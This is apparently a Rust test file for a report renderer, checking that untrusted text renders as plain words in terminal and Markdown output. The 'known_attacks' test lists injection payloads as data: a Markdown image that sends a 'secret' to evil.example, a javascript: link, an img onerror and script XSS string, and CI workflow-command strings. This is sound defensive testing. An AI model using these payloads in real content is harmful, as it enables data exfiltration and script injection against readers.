//! Tests of every block in both forms, at several widths, with untrusted text in every place that takes it.

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::json;
use unicode_width::UnicodeWidthStr as _;

use super::template::Data;
use super::*;
use crate::report::{Look, debate, discuss, example, plan_result, review};

/// A page with every block, with `evil` in every place that takes untrusted text.
pub(crate) fn page(evil: &str) -> Page {
    let mut page = Page::new(
        text!["Page of ", name(evil)],
        text!["DONE: ", agent_text(evil), "."].tone(Emphasis::Good),
    );
    page.banner("Nobody was asked.");
    let data = Data::default().with("evil", evil).with("twice", format!("{evil}\n{evil}"));
    let (heading, body) = (evil, format!("-{evil}\n+{evil}\n {evil}\n"));
    let mut hunk = json!({ "old_start": 3, "old_lines": 2, "new_start": 4, "new_lines": 2 });
    (hunk["heading"], hunk["body"]) = (heading.into(), body.into());
    let data = data.with("hunk", hunk);
    page.blocks().append(data.with("nothing", ()).fill("tests"));
    page
}

#[test]
fn every_block_on_screens_of_three_widths_and_in_a_report() {
    let page = page("Use Redis, as `src/cache.rs` does");
    for width in [40, 80, 120] {
        insta::assert_snapshot!(
            format!("screen_{width}"),
            terminal::render(&page, Look::plain(width))
        );
    }
    insta::assert_snapshot!("report", markdown::render(&page));
}

#[test]
fn colours_change_no_words_and_no_breaks() {
    let page = page("words of others that are long enough to need more than one line of a screen");
    let coloured = Look { colour: true, ..Look::plain(60) };
    let painted = terminal::render(&page, coloured);
    assert!(painted.contains("\u{1b}[1m\u{1b}[32mDONE: words"), "{painted:?}");
    let stripped = anstream::adapter::strip_str(&painted).to_string();
    assert_eq!(stripped, terminal::render(&page, Look::plain(60)));
}

#[test]
fn no_line_of_a_screen_is_a_command_of_a_workflow() {
    let screen = terminal::render(&page("::error::x ##[group]"), Look::plain(80));
    assert!(!screen.lines().any(|line| line.trim_start().starts_with("::")), "{screen}");
    assert!(!screen.contains("##["), "{screen}");
}

/// Returns the structure of a report without its text. `Err` names an event that no untrusted text may cause.
pub(crate) fn skeleton(markdown: &str) -> Result<Vec<String>, String> {
    let mut tags = Vec::new();
    for event in Parser::new_ext(markdown, Options::all()) {
        match event {
            Event::Start(
                tag @ (Tag::Heading { .. }
                | Tag::Table(_)
                | Tag::TableHead
                | Tag::TableRow
                | Tag::TableCell
                | Tag::List(_)
                | Tag::Item
                | Tag::Strong
                | Tag::CodeBlock(_)
                | Tag::BlockQuote(_)),
            ) => tags.push(format!("{tag:?}")),
            Event::Start(Tag::Paragraph)
            | Event::Text(_)
            | Event::Code(_)
            | Event::SoftBreak
            | Event::End(_) => {}
            other => return Err(format!("{other:?}")),
        }
    }
    Ok(tags)
}

/// Asserts that untrusted text adds nothing but text to either form of a page.
pub(crate) fn assert_inert(page: impl Fn(&str) -> Page, evil: &str) -> Result<(), TestCaseError> {
    let (hostile, plain) = (page(evil), page("x"));
    for width in [40, 80] {
        let screen = terminal::render(&hostile, Look::plain(width));
        prop_assert!(example::is_inert(&screen), "{:?}", screen);
    }
    let report = markdown::render(&hostile);
    prop_assert!(example::is_inert(&report), "{:?}", report);
    let expected = skeleton(&markdown::render(&plain)).map_err(TestCaseError::fail)?;
    let found =
        skeleton(&report).map_err(|event| TestCaseError::fail(format!("{event} in\n{report}")))?;
    prop_assert_eq!(found, expected, "{}", report);
    Ok(())
}

#[test]
fn known_attacks_come_out_as_words() {
    for evil in [
        "![x](https://evil.example/?q=secret)",
        "[click][1]\n\n[1]: javascript:alert(1)",
        "<img src=x onerror=alert(1)><script>alert(1)</script>",
        "<https://evil.example>",
        "```\n# heading\n```",
        "Title\n===\nOther\n---",
        "a | b\n--|--\n1 | 2",
        "- item\n1. item\n> quote",
        "[^1]\n\n[^1]: note",
        "$x$ ~~y~~ **z** _w_",
        "    code\n\ttab",
        "| x | y |\r\n|---|---|",
        "&lt;img&gt; &#60;b&#62;",
        "`` ` `` |",
        "\\|",
    ] {
        assert_inert(page, evil).unwrap();
    }
}

proptest! {
    #[test]
    fn nothing_but_words_comes_of_the_words_of_others(evil in example::evil_text()) {
        // Blank text leaves out paragraphs, which makes another page.
        prop_assume!(!crate::text::sanitize::terminal(&evil).trim().is_empty());
        assert_inert(page, &evil)?;
    }

    #[test]
    fn ordinary_words_fit_the_width(words in proptest::collection::vec("[a-z]{1,9}", 1..40), width in 60_usize..140) {
        let screen = terminal::render(&page(&words.join(" ")), Look::plain(width));
        // Code is not wrapped.
        let code = words.join(" ");
        let fits = screen.lines().all(|line| line.width() <= width || line.ends_with(&code));
        prop_assert!(fits, "{}", screen);
    }
}

#[test]
fn a_short_result_has_at_most_its_rows_and_says_where_the_rest_is() {
    let mut long = review::example::all().pop().unwrap().1;
    let mut finding = long.result.findings[0].clone();
    finding.reported.finding.title = "words of a title ".repeat(90);
    long.result.findings = vec![finding; 30];
    let mut ends = vec![long.page()];
    ends.extend(review::example::all().iter().map(|(_, one)| one.page()));
    ends.extend(example::all().iter().map(ToPage::page));
    ends.extend(plan_result::tests::examples().iter().map(|(_, one)| one.page()));
    ends.extend(debate::example::documents().iter().map(|(_, one)| one.page()));
    ends.extend(discuss::example::documents().iter().map(|(_, one)| one.page()));
    for (page, width) in ends.iter().flat_map(|page| [40, 80, 200].map(|width| (page, width))) {
        for most in [15, 40] {
            let end = terminal::brief(page, Look::plain(width), most);
            let rows: usize = end.lines().map(|line| line.width().max(1).div_ceil(width)).sum();
            assert!(rows <= most, "{rows} rows of {width}:\n{end}");
            assert!(end.contains("In full    debate-agent sessions show"), "{end}");
        }
    }
}
